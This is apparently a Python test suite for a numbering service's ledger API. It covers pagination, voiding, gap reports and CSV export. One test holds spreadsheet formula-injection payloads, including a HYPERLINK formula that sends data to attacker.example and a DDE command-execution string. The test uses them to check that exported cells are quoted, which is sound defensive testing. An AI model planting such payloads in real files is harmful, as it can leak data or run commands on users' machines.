"""The ledger: what it records per mode, keyset pages, voiding gapless numbers, and the gaps
between start and the last value of a period."""

import asyncio
import csv
import io
from typing import Any
from urllib.parse import quote

import asyncpg
import httpx
import pytest

from app.schemas import MAX_BIGINT, MAX_GAP_RUNS, encode_variables
from harness.tenants import Tenant, create_series
from tests.portal.test_admin_portal import signed_in_csrf
from tests.support.api import assert_problem


async def issue(
    client: httpx.AsyncClient, tenant: Tenant, count: int, date: str = "2026-05-01", **body: Any
) -> list[int]:
    response = await client.post(
        "/series/l/batch", json={"count": count, "date": date, **body}, headers=tenant.issuer
    )
    assert response.status_code == 201, response.text
    values: list[int] = response.json()["values"]
    return values


async def every_page(
    client: httpx.AsyncClient, tenant: Tenant, limit: int, **params: str
) -> list[list[dict[str, Any]]]:
    pages, cursor = [], None
    while True:
        query = {"limit": str(limit), **params, **({"cursor": cursor} if cursor else {})}
        response = await client.get("/series/l/numbers", params=query, headers=tenant.issuer)
        assert response.status_code == 200, response.text
        pages.append(response.json()["items"])
        cursor = response.json()["next_cursor"]
        if cursor is None:
            return pages


async def gaps(client: httpx.AsyncClient, tenant: Tenant, period: str) -> dict[str, Any]:
    response = await client.get("/series/l/gaps", params={"period": period}, headers=tenant.issuer)
    assert response.status_code == 200, response.text
    report: dict[str, Any] = response.json()
    return report


async def test_pages_follow_period_then_value(client: httpx.AsyncClient, tenant: Tenant) -> None:
    await create_series(client, tenant, "l", reset="yearly", format="{YYYY}-{seq:03}", step=2)
    await issue(client, tenant, 12, "2027-01-01")
    await issue(client, tenant, 13, "2026-12-31")
    pages = await every_page(client, tenant, 10)
    assert [len(p) for p in pages] == [10, 10, 5]
    keys = [(e["period"], e["value"]) for page in pages for e in page]
    assert keys == [("2026", 1 + 2 * i) for i in range(13)] + [
        ("2027", 1 + 2 * i) for i in range(12)
    ]
    first = pages[0][0]
    assert first | {"issued_at": None} == {
        "value": 1,
        "number": "2026-001",
        "period": "2026",
        "variables": {},
        "date": "2026-12-31",
        "status": "issued",
        "issued_at": None,
        "void_reason": None,
        "voided_at": None,
        "document_ref": None,
        "external": False,
    }
    only_2027 = await every_page(client, tenant, 100, period="2027")
    assert [e["number"] for e in only_2027[0]] == [f"2027-{1 + 2 * i:03d}" for i in range(12)]


async def test_pages_stay_exact_while_numbers_are_issued(
    client: httpx.AsyncClient, tenant: Tenant
) -> None:
    await create_series(client, tenant, "l")
    await issue(client, tenant, 30)
    first = await client.get("/series/l/numbers?limit=20", headers=tenant.issuer)
    await asyncio.gather(*(issue(client, tenant, 5) for _ in range(4)))
    cursor = first.json()["next_cursor"]
    rest = await client.get(f"/series/l/numbers?limit=1000&cursor={cursor}", headers=tenant.issuer)
    values = [e["value"] for e in first.json()["items"] + rest.json()["items"]]
    assert values == list(range(1, 51))
    assert rest.json()["next_cursor"] is None


@pytest.mark.parametrize(
    "query",
    [
        "limit=0",
        "limit=1001",
        "limit=ten",
        "status=lost",
        "cursor=bm90LWEtY3Vyc29y",
        "cursor=%25%25",
        "period=2026-13-01-x",
    ],
)
async def test_bad_page_requests_are_a_422(
    client: httpx.AsyncClient, tenant: Tenant, query: str
) -> None:
    await create_series(client, tenant, "l")
    response = await client.get(f"/series/l/numbers?{query}", headers=tenant.issuer)
    assert_problem(response, 422, "invalid-request")


@pytest.mark.parametrize("mode", ["sequence", "cached"])
async def test_other_modes_record_only_with_a_ledger(
    client: httpx.AsyncClient, tenant: Tenant, mode: str
) -> None:
    await create_series(client, tenant, "l", mode=mode)
    await issue(client, tenant, 3)
    for path in ("/series/l/numbers", "/series/l/gaps"):
        response = await client.get(path, headers=tenant.issuer)
        assert_problem(response, 409, "ledger-disabled")

    await create_series(client, tenant, "k", mode=mode, ledger=True, format="K{seq}")
    response = await client.post("/series/k/batch", json={"count": 3}, headers=tenant.issuer)
    issued = response.json()["numbers"]
    single = (await client.post("/series/k/next", headers=tenant.issuer)).json()["number"]
    ledger = await client.get("/series/k/numbers", headers=tenant.issuer)
    assert [e["number"] for e in ledger.json()["items"]] == [*issued, single]


async def test_voiding_keeps_the_number_with_its_reason(
    client: httpx.AsyncClient, tenant: Tenant
) -> None:
    await create_series(client, tenant, "l", format="L-{seq}")
    await issue(client, tenant, 5)
    response = await client.post(
        "/series/l/numbers/L-3/void", json={"reason": "typo on invoice"}, headers=tenant.admin
    )
    assert response.status_code == 200, response.text
    voided = response.json()
    assert (voided["number"], voided["status"], voided["void_reason"]) == (
        "L-3",
        "voided",
        "typo on invoice",
    )
    assert voided["voided_at"] is not None

    again = await client.post(
        "/series/l/numbers/L-3/void", json={"reason": "twice"}, headers=tenant.admin
    )
    assert_problem(again, 409, "already-voided")
    only_voided = await client.get("/series/l/numbers?status=voided", headers=tenant.issuer)
    assert [(e["value"], e["void_reason"]) for e in only_voided.json()["items"]] == [
        (3, "typo on invoice")
    ]
    issued = await client.get("/series/l/numbers?status=issued", headers=tenant.issuer)
    assert [e["value"] for e in issued.json()["items"]] == [1, 2, 4, 5]
    report = await gaps(client, tenant, "all")
    assert (report["last_value"], report["missing"], report["gaps"]) == (5, 0, [])
    assert (await issue(client, tenant, 1)) == [6]  # a voided value is never issued again


async def test_void_needs_an_admin_key_and_a_reason(
    client: httpx.AsyncClient, tenant: Tenant
) -> None:
    await create_series(client, tenant, "l", format="L-{seq}")
    await issue(client, tenant, 1)
    response = await client.post(
        "/series/l/numbers/L-1/void", json={"reason": "x"}, headers=tenant.issuer
    )
    assert_problem(response, 403, "forbidden")
    for body in ({}, {"reason": ""}):
        response = await client.post("/series/l/numbers/L-1/void", json=body, headers=tenant.admin)
        assert_problem(response, 422, "invalid-request")


async def test_voiding_an_unknown_number_is_a_404(
    client: httpx.AsyncClient, tenant: Tenant, other_tenant: Tenant
) -> None:
    await create_series(client, tenant, "l", format="L-{seq}")
    await issue(client, tenant, 1)
    response = await client.post(
        "/series/l/numbers/L-2/void", json={"reason": "x"}, headers=tenant.admin
    )
    assert_problem(response, 404, "number-not-found")
    response = await client.post(
        "/series/l/numbers/L-1/void", json={"reason": "x"}, headers=other_tenant.admin
    )
    assert_problem(response, 404, "series-not-found")


@pytest.mark.parametrize("mode", ["sequence", "cached"])
async def test_only_gapless_numbers_can_be_voided(
    client: httpx.AsyncClient, tenant: Tenant, mode: str
) -> None:
    await create_series(client, tenant, "l", mode=mode, ledger=True, format="L-{seq}")
    await issue(client, tenant, 1)
    response = await client.post(
        "/series/l/numbers/L-1/void", json={"reason": "x"}, headers=tenant.admin
    )
    assert_problem(response, 409, "not-gapless")


async def test_a_failed_sequence_request_leaves_a_reported_gap(
    client: httpx.AsyncClient, tenant: Tenant
) -> None:
    """The number of value 3 is too long to render: the value is taken, then lost (the values
    of every variable come from one counter here, so the failure costs the same counter)."""
    await create_series(
        client,
        tenant,
        "l",
        mode="sequence",
        ledger=True,
        shared_counter=True,
        format="x" * 33 + "{var:a}-{seq}",
    )
    await issue(client, tenant, 2, variables={"a": "ok"})
    response = await client.post(
        "/series/l/next", json={"variables": {"a": "a" * 32}}, headers=tenant.issuer
    )
    assert_problem(response, 422, "invalid-request")
    await issue(client, tenant, 2, variables={"a": "ok"})
    assert await gaps(client, tenant, "all") == {
        "period": "all",
        "variables": {},
        "start": 1,
        "last_value": 5,
        "missing": 1,
        "runs": 1,
        "truncated": False,
        "gaps": [{"first": 3, "last": 3, "count": 1}],
    }


async def test_gaps_of_an_unused_period_are_empty(
    client: httpx.AsyncClient, tenant: Tenant
) -> None:
    await create_series(client, tenant, "l", reset="yearly", format="{YYYY}-{seq}", start=7)
    await issue(client, tenant, 3, "2026-05-01")
    assert await gaps(client, tenant, "2031") == {
        "period": "2031",
        "variables": {},
        "start": 7,
        "last_value": None,
        "missing": 0,
        "runs": 0,
        "truncated": False,
        "gaps": [],
    }
    assert (await gaps(client, tenant, "2026"))["last_value"] == 9


# Removes ledger rows behind the service's back, as only a test may, to leave gaps in it.
FORGET_VALUES = """
DELETE FROM numbers USING series AS s
WHERE numbers.series_id = s.id AND s.tenant_id = $1 AND s.name = $2 AND value = ANY($3::bigint[])
"""
# Records the even values from 2 to $3 and raises the counter to $4, as issuing would have.
RECORD_EVEN_VALUES = """
WITH s AS (SELECT id FROM series WHERE tenant_id = $1 AND name = $2),
raised AS (UPDATE counters SET last_value = $4 WHERE series_id = (SELECT id FROM s))
INSERT INTO numbers (series_id, period, value, number, date)
SELECT (SELECT id FROM s), 'all', v, 'E-' || v, current_date FROM generate_series(2, $3, 2) AS v
"""


async def test_gaps_up_to_the_bigint_limit_are_reported(
    client: httpx.AsyncClient, tenant: Tenant, pool: asyncpg.Pool
) -> None:
    await create_series(client, tenant, "l", start=MAX_BIGINT - 8, step=2, format="L-{seq}")
    values = await issue(client, tenant, 5)
    assert values[-1] == MAX_BIGINT
    assert await gaps(client, tenant, "all") == {
        "period": "all",
        "variables": {},
        "start": MAX_BIGINT - 8,
        "last_value": MAX_BIGINT,
        "missing": 0,
        "runs": 0,
        "truncated": False,
        "gaps": [],
    }
    await pool.execute(FORGET_VALUES, tenant.id, "l", [MAX_BIGINT - 4, MAX_BIGINT])
    report = await gaps(client, tenant, "all")
    assert (report["missing"], report["runs"], report["truncated"]) == (2, 2, False)
    assert report["gaps"] == [
        {"first": MAX_BIGINT - 4, "last": MAX_BIGINT - 4, "count": 1},
        {"first": MAX_BIGINT, "last": MAX_BIGINT, "count": 1},
    ]


async def test_a_gap_report_past_its_run_limit_says_so_and_counts_every_run(
    client: httpx.AsyncClient, tenant: Tenant, pool: asyncpg.Pool
) -> None:
    """Value 1 issued, then every even value recorded: each odd value is a run of its own."""
    await create_series(client, tenant, "l", format="L-{seq}")
    await issue(client, tenant, 1)
    top = 2 * MAX_GAP_RUNS + 3
    await pool.execute(RECORD_EVEN_VALUES, tenant.id, "l", top - 1, top)
    report = await gaps(client, tenant, "all")
    assert report["last_value"] == top
    assert (report["missing"], report["runs"], report["truncated"]) == (
        MAX_GAP_RUNS + 1,
        MAX_GAP_RUNS + 1,
        True,
    )
    assert len(report["gaps"]) == MAX_GAP_RUNS
    assert report["gaps"][0] == {"first": 3, "last": 3, "count": 1}
    assert report["gaps"][-1] == {"first": top - 2, "last": top - 2, "count": 1}


async def test_an_archived_series_keeps_its_ledger_readable(
    client: httpx.AsyncClient, tenant: Tenant
) -> None:
    await create_series(client, tenant, "l", format="L-{seq}")
    await issue(client, tenant, 2)
    assert (await client.delete("/series/l", headers=tenant.admin)).status_code == 204
    ledger = await client.get("/series/l/numbers", headers=tenant.issuer)
    assert [e["number"] for e in ledger.json()["items"]] == ["L-1", "L-2"]
    assert (await gaps(client, tenant, "all"))["gaps"] == []


async def test_the_ledger_as_csv(client: httpx.AsyncClient, tenant: Tenant) -> None:
    await create_series(client, tenant, "l", format="L-{seq}")
    await issue(client, tenant, 3)
    response = await client.get(
        "/series/l/numbers", headers={**tenant.issuer, "Accept": "text/csv"}
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [(r["period"], r["value"], r["number"], r["status"]) for r in rows] == [
        ("all", "1", "L-1", "issued"),
        ("all", "2", "L-2", "issued"),
        ("all", "3", "L-3", "issued"),
    ]


FORMULA_REASONS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'quoted already",
)
TEXT_COLUMNS = ("period", "variables", "number", "void_reason")


def as_written(entry: dict[str, Any], column: str) -> str:
    """A ledger entry's text as the CSV writes it before any quoting."""
    if column == "variables":
        return encode_variables(sorted(entry["variables"]), entry["variables"])
    return entry[column] or ""


async def test_csv_cells_a_spreadsheet_would_run_are_quoted_and_read_back(
    client: httpx.AsyncClient, tenant: Tenant
) -> None:
    await create_series(client, tenant, "f", format="=1+{seq}")
    await create_series(client, tenant, "v", format="{var:b}-{seq}")
    for reason in FORMULA_REASONS:
        issued = await client.post("/series/f/next", headers=tenant.issuer)
        number = issued.json()["number"]
        voided = await client.post(
            f"/series/f/numbers/{quote(number, safe='')}/void",
            json={"reason": reason},
            headers=tenant.admin,
        )
        assert voided.status_code == 200, voided.text
    # A variable can make a number start with "-" too: "-5-1" is a formula to a spreadsheet.
    negative = await client.post(
        "/series/v/next", json={"variables": {"b": "-5"}}, headers=tenant.issuer
    )
    assert negative.json()["number"] == "-5-1", negative.text
    await signed_in_csrf(client, tenant)

    for name in ("f", "v"):
        ledger = await client.get(f"/series/{name}/numbers", headers=tenant.admin)
        entries = ledger.json()["items"]
        api_csv = await client.get(
            f"/series/{name}/numbers", headers={**tenant.admin, "Accept": "text/csv"}
        )
        portal_csv = await client.get(f"/admin/series/{name}/ledger.csv")
        assert portal_csv.text == api_csv.text
        rows = list(csv.DictReader(io.StringIO(api_csv.text)))
        assert len(rows) == len(entries) > 0
        for row, entry in zip(rows, entries, strict=True):
            for column in TEXT_COLUMNS:
                cell, written = row[column], as_written(entry, column)
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
                # The documented reading: a cell starting with ' holds the rest of it.
                assert (cell[1:] if cell.startswith("'") else cell) == written, (column, cell)
            assert row["value"] == str(entry["value"])
    rows = list(csv.DictReader(io.StringIO(api_csv.text)))
    assert rows[0]["number"] == "'-5-1"


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/series/nope/numbers"),
        ("GET", "/series/nope/gaps"),
        ("POST", "/series/nope/numbers/N-1/void"),
    ],
)
async def test_an_unknown_series_is_a_404(
    client: httpx.AsyncClient, tenant: Tenant, method: str, path: str
) -> None:
    body = {"reason": "x"} if method == "POST" else None
    response = await client.request(method, path, json=body, headers=tenant.admin)
    assert_problem(response, 404, "series-not-found")


async def void(client: httpx.AsyncClient, tenant: Tenant, number_path: str) -> httpx.Response:
    """Void a number of series ``l``, given as it goes in the path after ``/numbers/``."""
    return await client.post(
        f"/series/l/numbers/{number_path}/void", json={"reason": "typo"}, headers=tenant.admin
    )


async def test_a_number_with_slashes_is_voided_by_its_percent_encoded_path(
    client: httpx.AsyncClient, tenant: Tenant
) -> None:
    await create_series(client, tenant, "l", format="INV/{YYYY}/{seq:04}")
    await issue(client, tenant, 2)
    encoded = await void(client, tenant, "INV%2F2026%2F0001")
    assert encoded.status_code == 200, encoded.text
    assert (encoded.json()["number"], encoded.json()["status"]) == ("INV/2026/0001", "voided")
    plain = await void(client, tenant, "INV/2026/0002")
    assert (plain.json()["number"], plain.json()["status"]) == ("INV/2026/0002", "voided")
    voided = await client.get("/series/l/numbers?status=voided", headers=tenant.issuer)
    assert [e["number"] for e in voided.json()["items"]] == ["INV/2026/0001", "INV/2026/0002"]


async def test_one_number_is_looked_up_by_its_path(
    client: httpx.AsyncClient, tenant: Tenant, other_tenant: Tenant
) -> None:
    await create_series(client, tenant, "l", format="INV/{YYYY}/{seq:04}")
    await issue(client, tenant, 2)
    listed = (await client.get("/series/l/numbers", headers=tenant.issuer)).json()["items"]
    for path in ("/series/l/numbers/INV%2F2026%2F0002", "/series/l/numbers/INV/2026/0002"):
        found = await client.get(path, headers=tenant.issuer)
        assert found.status_code == 200, found.text
        assert found.json() == listed[1]
    missing = await client.get("/series/l/numbers/INV/2026/0003", headers=tenant.issuer)
    assert_problem(missing, 404, "number-not-found")
    elsewhere = await client.get("/series/l/numbers/INV/2026/0001", headers=other_tenant.admin)
    assert_problem(elsewhere, 404, "series-not-found")
    # Next to the lookup, the listing and the gap report answer as before.
    assert (await client.get("/series/l/gaps", headers=tenant.issuer)).json()["missing"] == 0
    slash = await client.get("/series/l/numbers/", headers=tenant.issuer)
    assert (slash.status_code, slash.headers["location"]) == (
        307,
        "http://docnum.test/series/l/numbers",
    )


async def test_looking_up_a_number_needs_a_ledger(
    client: httpx.AsyncClient, tenant: Tenant
) -> None:
    await create_series(client, tenant, "l", mode="sequence", format="L-{seq}")
    await issue(client, tenant, 1)
    response = await client.get("/series/l/numbers/L-1", headers=tenant.issuer)
    assert_problem(response, 409, "ledger-disabled")
    unknown = await client.get("/series/nope/numbers/L-1", headers=tenant.issuer)
    assert_problem(unknown, 404, "series-not-found")


@pytest.mark.parametrize(
    "prefix",
    ["Q?", "H#", "S P", "P%", "É€", "A+&=;", "Q%3F"],
    ids=["question mark", "hash", "space", "percent", "unicode", "query text", "escape-like"],
)
async def test_numbers_with_reserved_characters_are_addressable_percent_encoded(
    client: httpx.AsyncClient, tenant: Tenant, prefix: str
) -> None:
    await create_series(client, tenant, "l", format=prefix + "-{seq}")
    await issue(client, tenant, 2)
    number = f"{prefix}-2"
    encoded = quote(number, safe="")
    found = await client.get(f"/series/l/numbers/{encoded}", headers=tenant.issuer)
    assert (found.status_code, found.json()["number"]) == (200, number), found.text
    voided = await void(client, tenant, encoded)
    assert (voided.status_code, voided.json()["number"]) == (200, number), voided.text
    ledger = await client.get("/series/l/numbers", headers=tenant.issuer)
    assert [e["status"] for e in ledger.json()["items"]] == ["issued", "voided"]


async def test_a_number_ending_in_void_is_looked_up_and_voided(
    client: httpx.AsyncClient, tenant: Tenant
) -> None:
    await create_series(client, tenant, "l", format="N{seq}/void")
    await issue(client, tenant, 2)
    found = await client.get("/series/l/numbers/N1/void", headers=tenant.issuer)
    assert (found.status_code, found.json()["number"]) == (200, "N1/void"), found.text
    # POST …/void voids what comes before it: here "N1", which was never issued.
    assert_problem(await void(client, tenant, "N1"), 404, "number-not-found")
    for number_path in ("N1/void", "N2%2Fvoid"):
        voided = await void(client, tenant, number_path)
        assert (voided.status_code, voided.json()["status"]) == (200, "voided"), voided.text
    ledger = await client.get("/series/l/numbers?status=voided", headers=tenant.issuer)
    assert [e["number"] for e in ledger.json()["items"]] == ["N1/void", "N2/void"]
